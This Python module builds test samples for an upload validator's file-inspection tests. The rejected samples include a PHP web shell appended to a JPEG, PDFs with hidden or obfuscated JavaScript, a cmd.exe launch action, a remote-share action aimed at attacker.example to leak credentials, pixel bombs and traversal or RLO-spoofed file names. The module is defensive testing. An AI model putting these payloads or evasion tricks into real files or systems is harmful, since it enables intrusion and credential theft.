"""Attachment test samples, all made at test time (no binary files in git).

Each function returns ``(claimed_name, content)``. ``write(dir, sample)`` puts one on disk.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

from PIL import Image, ImageCms, ImageDraw
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

Sample = tuple[str, bytes]

GPS_IFD = 0x8825
ORIENTATION = 0x0112


def write(directory: Path, sample: Sample, filename: str = "upload.bin") -> Path:
    """Write the content under a neutral name: inspection must not look at the path."""
    path = directory / filename
    path.write_bytes(sample[1])
    return path


def _picture(size: tuple[int, int], mode: str = "RGB") -> Image.Image:
    """A non-uniform picture (so orientation is observable): red left half, blue right."""
    im = Image.new(mode, size, "white")
    draw = ImageDraw.Draw(im)
    draw.rectangle((0, 0, size[0] // 2, size[1]), fill="red")
    draw.rectangle((size[0] // 2, 0, size[0], size[1]), fill="blue")
    return im


def png_chunk(ctype: bytes, body: bytes) -> bytes:
    """One PNG chunk with a correct CRC."""
    crc = struct.pack(">I", zlib.crc32(ctype + body))
    return struct.pack(">I", len(body)) + ctype + body + crc


def _png_bytes(size: tuple[int, int] = (64, 48), **params: object) -> bytes:
    out = io.BytesIO()
    _picture(size).save(out, "PNG", **params)
    return out.getvalue()


def _pdf_bytes(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _blank_writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    return writer


def _zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("payload.txt", "not a picture")
    return out.getvalue()


# --- accepted samples -------------------------------------------------------------------


def gps_jpeg() -> Sample:
    """300x200 JPEG, EXIF orientation 6 (rotate 90° CW), GPS position, ICC and a comment."""
    exif = Image.Exif()
    exif[ORIENTATION] = 6
    exif[0x010F] = "NaraCam"  # Make
    gps = exif.get_ifd(GPS_IFD)
    gps[1] = "N"
    gps[2] = (56.0, 52.0, 42.0)  # Växjö
    gps[3] = "E"
    gps[4] = (14.0, 48.0, 32.0)
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    out = io.BytesIO()
    _picture((300, 200)).save(out, "JPEG", exif=exif, icc_profile=icc, comment=b"patient comment")
    return "utslag.jpg", out.getvalue()


def png_with_text() -> Sample:
    info = PngInfo()
    info.add_text("Author", "Patient Patientsson")
    info.add_itxt("Description", "hemadress", lang="sv")
    return "bild.png", _png_bytes(pnginfo=info)


def animated_gif() -> Sample:
    """3 frames, 100/200/300 ms, looping forever, with a comment."""
    frames = [Image.new("P", (40, 30), colour) for colour in (1, 2, 3)]
    for frame in frames:
        frame.putpalette([0, 0, 0, 255, 0, 0, 0, 255, 0, 0, 0, 255] + [0] * 756)
    out = io.BytesIO()
    frames[0].save(
        out,
        "GIF",
        save_all=True,
        append_images=frames[1:],
        duration=[100, 200, 300],
        loop=0,
        comment=b"secret comment",
        disposal=1,
    )
    return "rörelse.gif", out.getvalue()


def mpo_jpeg() -> Sample:
    """A phone-style JPEG with a second image after the first EOI (MPO)."""
    out = io.BytesIO()
    _picture((64, 48)).save(
        out, "MPO", save_all=True, append_images=[Image.new("RGB", (32, 24), "blue")]
    )
    return "telefon.jpg", out.getvalue()


def progressive_jpeg() -> Sample:
    """Progressive scans with restart markers: several SOS segments before EOI."""
    out = io.BytesIO()
    _picture((300, 200)).save(out, "JPEG", progressive=True, restart_marker_blocks=1)
    return "progressiv.jpg", out.getvalue()


def jpeg_segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def upright_jpeg_with_metadata(mode: str = "RGB", **save: object) -> Sample:
    """An upright photo without an ICC profile, full of metadata in every kind of segment:
    EXIF with GPS, XMP, Photoshop IRB, a comment, a JFIF header with a thumbnail, APP15."""
    exif = Image.Exif()
    exif[0x010F] = "NaraCam"
    gps = exif.get_ifd(GPS_IFD)
    gps[1] = "N"
    gps[2] = (56.0, 52.0, 42.0)
    out = io.BytesIO()
    _picture((300, 200)).convert(mode).save(
        out, "JPEG", exif=exif, comment=b"patient comment", **save
    )
    data = out.getvalue()
    if data[2:4] == b"\xff\xe0":  # Pillow's JFIF header: replace it by one with a thumbnail
        data = data[:2] + data[4 + struct.unpack(">H", data[4:6])[0] :]
    jfif = b"JFIF\x00\x01\x02\x01\x00\x48\x00\x48\x02\x02" + b"\x10\x20\x30" * 4
    extra = (
        jpeg_segment(0xE0, jfif)
        + jpeg_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta>secret-xmp</x:xmpmeta>")
        + jpeg_segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04\x00\x00patient-iptc")
        + jpeg_segment(0xEF, b"secret-app15")
    )
    return "foto.jpg", data[:2] + extra + data[2:]


def small_pdf() -> Sample:
    return "röntgensvar åäö.pdf", _pdf_bytes(_blank_writer())


def small_png(name: str = "bild.png") -> Sample:
    return name, _png_bytes()


def transparent_png() -> Sample:
    out = io.BytesIO()
    Image.new("RGBA", (500, 100), (255, 0, 0, 128)).save(out, "PNG")
    return "alpha.png", out.getvalue()


def pdf_of_size(size: int) -> Sample:
    """A valid PDF of exactly ``size`` bytes (padding in an unreferenced-by-pages stream)."""
    pad = max(0, size - 1000)
    for _ in range(10):
        writer = _blank_writer()
        stream = StreamObject()
        stream.set_data(b"0" * pad)
        ref = writer._add_object(stream)
        writer.root_object[NameObject("/NaraPadding")] = ref
        data = _pdf_bytes(writer)
        if len(data) == size:
            return "storlek.pdf", data
        pad += size - len(data)
        if pad < 0:
            raise ValueError("size too small for a padded PDF")
    raise RuntimeError("could not hit the exact size")


# --- rejected samples -------------------------------------------------------------------


def empty_file() -> Sample:
    return "tom.pdf", b""


def html_named_jpg() -> Sample:
    return "utslag.jpg", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


def svg() -> Sample:
    return "bild.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def png_named_jpg() -> Sample:
    return "foto.jpg", _png_bytes()


def png_with_zip() -> Sample:
    return "bild.png", _png_bytes() + _zip_bytes()


def jpeg_after_eoi() -> Sample:
    out = io.BytesIO()
    _picture((32, 32)).save(out, "JPEG")
    return "foto.jpg", out.getvalue() + b"<?php system($_GET['c']); ?>"


def mpo_with_trailing_zip() -> Sample:
    return "telefon.jpg", mpo_jpeg()[1] + _zip_bytes()


def gif_with_xmp() -> Sample:
    """An XMP application extension (with a position in it) right after the colour table."""
    data = animated_gif()[1]
    xmp = b"<x:xmpmeta>GPSLatitude 56.87 secret-xmp</x:xmpmeta>"
    ext = b"\x21\xff\x0bXMP DataXMP" + bytes([len(xmp)]) + xmp + b"\x00"
    table_end = 13 + 3 * (2 ** ((data[10] & 7) + 1))
    return "rörelse.gif", data[:table_end] + ext + data[table_end:]


def gif_after_trailer() -> Sample:
    return "anim.gif", animated_gif()[1] + b"MZ trailing payload after the trailer"


def png_with_embedded_elf() -> Sample:
    """An ELF header hidden in a private ancillary chunk, before IEND."""
    data = _png_bytes()
    payload = b"\x7fELF\x02\x01\x01" + bytes(57)
    after_ihdr = 8 + 25  # signature, then the IHDR chunk
    return "bild.png", data[:after_ihdr] + png_chunk(b"prVt", payload) + data[after_ihdr:]


def truncated_png() -> Sample:
    data = _png_bytes((200, 200))
    return "bild.png", data[: len(data) // 2]


def corrupt_png_crc() -> Sample:
    data = bytearray(_png_bytes())
    data[29] ^= 0xFF  # inside the IHDR CRC
    return "bild.png", bytes(data)


def pixel_bomb_png(side: int = 30_000) -> Sample:
    """A side x side greyscale PNG header with a tiny IDAT: nothing large is allocated."""
    ihdr = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024)
    data = (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )
    return "bomb.png", data


def pixel_bomb_jpeg() -> Sample:
    """A small JPEG whose SOF0 header claims 60000 x 60000 pixels."""
    out = io.BytesIO()
    _picture((16, 16)).save(out, "JPEG")
    data = bytearray(out.getvalue())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", 60_000, 60_000)
    return "bomb.jpg", bytes(data)


def huge_screen_gif() -> Sample:
    """A GIF whose logical screen is 65535 x 65535 with a 1x1 image inside."""
    header = b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0) + b"\x00" * 6
    image = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    return "stor.gif", header + image + b"\x3b"


def pdf_with_javascript() -> Sample:
    writer = _blank_writer()
    writer.add_open_action(JavaScript("app.alert('hej');"))
    return "svar.pdf", _pdf_bytes(writer)


def _js_action() -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1)"),
        }
    )


def pdf_with_annotation_javascript() -> Sample:
    """A link annotation whose action is JavaScript (not in the catalog)."""
    writer = _blank_writer()
    annot = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 50, 50)]),
            NameObject("/A"): _js_action(),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annot)])
    return "svar.pdf", _pdf_bytes(writer)


def pdf_with_obfuscated_javascript() -> Sample:
    """Page /AA JavaScript written with #-escaped names, which pypdf decodes."""
    writer = _blank_writer()
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _js_action()})
    data = _pdf_bytes(writer)
    data = data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
    return "svar.pdf", data


def pdf_with_launch(action_type: str = "/Launch", target: str = "cmd.exe") -> Sample:
    writer = _blank_writer()
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject(action_type),
            NameObject("/F"): TextStringObject(target),
        }
    )
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return "svar.pdf", _pdf_bytes(writer)


def pdf_with_remote_goto() -> Sample:
    """A GoToR action opening a file on a remote share (leaks Windows credentials)."""
    return pdf_with_launch("/GoToR", "\\\\attacker.example\\share\\x.pdf")


def pdf_with_embedded_file() -> Sample:
    writer = _blank_writer()
    writer.add_attachment("bilaga.txt", b"embedded")
    return "svar.pdf", _pdf_bytes(writer)


def encrypted_pdf() -> Sample:
    writer = _blank_writer()
    writer.encrypt("hemligt", algorithm="AES-256")
    return "svar.pdf", _pdf_bytes(writer)


def _pdf15(objects: dict[int, bytes], compressed: dict[int, bytes]) -> bytes:
    """A PDF 1.5 file with ``compressed`` objects in a Flate object stream and an xref stream."""
    stm_num = max(objects.keys() | compressed.keys()) + 1
    xref_num = stm_num + 1
    body, offsets = b"", []
    for num, obj in compressed.items():
        offsets.append((num, len(body)))
        body += obj + b"\n"
    header = b"".join(b"%d %d " % (num, off) for num, off in offsets)
    packed = zlib.compress(header + body)
    objects = dict(objects)
    objects[stm_num] = (
        b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(compressed), len(header), len(packed))
        + packed
        + b"\nendstream"
    )
    out, where = b"%PDF-1.5\n", {}
    for num in sorted(objects):
        where[num] = len(out)
        out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for num in range(1, xref_num + 1):
        if num in compressed:
            index = list(compressed).index(num)
            rows.append(struct.pack(">BIH", 2, stm_num, index))
        else:
            rows.append(struct.pack(">BIH", 1, where.get(num, len(out)), 0))
    data = b"".join(rows)
    xref_at = len(out)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % (xref_num, xref_num + 1, len(data))
        + data
        + b"\nendstream\nendobj\n"
    )
    return out + b"startxref\n%d\n%%%%EOF\n" % xref_at


def pdf_with_object_stream() -> Sample:
    """A harmless PDF 1.5 whose page object lives in a compressed object stream."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    }
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"
    return "svar.pdf", _pdf15(objects, {3: page})


def pdf_with_javascript_in_object_stream() -> Sample:
    """The JavaScript action is compressed inside an object stream: invisible to a byte scan."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    }
    action = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    data = _pdf15(objects, {4: action})
    assert b"JavaScript" not in data
    return "svar.pdf", data


def invalid_pdf() -> Sample:
    return "svar.pdf", b"%PDF-1.7\nthis is not a PDF at all\n%%EOF\n"


def pdf_with_trailing_zip() -> Sample:
    return "svar.pdf", small_pdf()[1] + _zip_bytes()


def elf_executable() -> Sample:
    return "program.pdf", b"\x7fELF\x02\x01\x01\x00" + bytes(120)


def pe_executable() -> Sample:
    body = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"This program cannot be run in DOS mode"
    return "setup.exe", body + bytes(64)


def zip_archive() -> Sample:
    return "arkiv.zip", _zip_bytes()


# --- names ------------------------------------------------------------------------------

# Claimed names and what they become for a PNG: cleaned, never refused.
CLEANED_NAMES: dict[str, tuple[str, str]] = {
    "empty": ("", "bilaga.png"),
    "blank": ("   ", "bilaga.png"),
    "dotdot_path": ("../../etc/passwd.png", "passwd.png"),
    "dotdot_only": ("..", "bilaga.png"),
    "extension_only": (".png", "bilaga.png"),
    "hidden": (".bild.png", "bild.png"),
    "backslash": ("..\\windows\\bild.png", "bild.png"),
    "windows_path": ("C:\\Users\\x\\bild.png", "bild.png"),
    "slash": ("mapp/bild.png", "bild.png"),
    "trailing_slash": ("mapp/", "bilaga.png"),
    "nul": ("bild\x00.png", "bild.png"),
    "newline": ("bild\n.png", "bild.png"),
    "tab": ("bild\t1.png", "bild1.png"),
    "del": ("bild\x7f.png", "bild.png"),
    "c1_control": ("bild\x85.png", "bild.png"),
    "line_separator": ("bild\u2028.png", "bild.png"),
    "paragraph_separator": ("bild\u2029.png", "bild.png"),
    "rlo": ("bild\u202egnp.exe", "bildgnp.exe.png"),
    "lri": ("bild\u2066.png", "bild.png"),
    "pdi": ("bild\u2069.png", "bild.png"),
    "lrm": ("bild\u200e.png", "bild.png"),
    "rlm": ("bild\u200f.png", "bild.png"),
    "alm": ("bild\u061c.png", "bild.png"),
    "zero_width_space": ("bi\u200bld.png", "bild.png"),
    "bom": ("\ufeffbild.png", "bild.png"),
    "lone_surrogate": ("bild\ud800.png", "bild.png"),
    "decomposed": ("ro\u0308ntgen.png", "röntgen.png"),
    "trailing_dots": ("bild.png. . ", "bild.png"),
    "no_extension": ("skanning", "skanning.png"),
    "unknown_extension": ("skanning.dat", "skanning.dat.png"),
    "upper_case_extension": ("BILD.PNG", "BILD.PNG"),
    "ascii_300_bytes": ("a" * 296 + ".png", "a" * 251 + ".png"),
    "swedish_300_bytes": ("å" * 148 + ".png", "å" * 125 + ".png"),  # å is 2 bytes
    "long_without_extension": ("x" * 300, "x" * 251 + ".png"),
}
# Not a file name at all: still invalid_filename.
REFUSED_NAMES: dict[str, str] = {
    "over_4_kib": "a" * 4093 + ".png",
    "over_4_kib_in_utf8": "å" * 2047 + ".png",
}
GOOD_NAMES: dict[str, str] = {
    "ascii": "bild.png",
    "swedish": "röntgensvar åäö.pdf",
    "spaces": "  provsvar.pdf  ",
    "dots": "svar...2024.pdf",
    "exactly_255_bytes": "b" * 251 + ".pdf",
    "jpeg_alias": "foto.JPEG",
    "exactly_4_kib_input": "  " + "c" * 249 + ".gif" + " " * 3841,
}
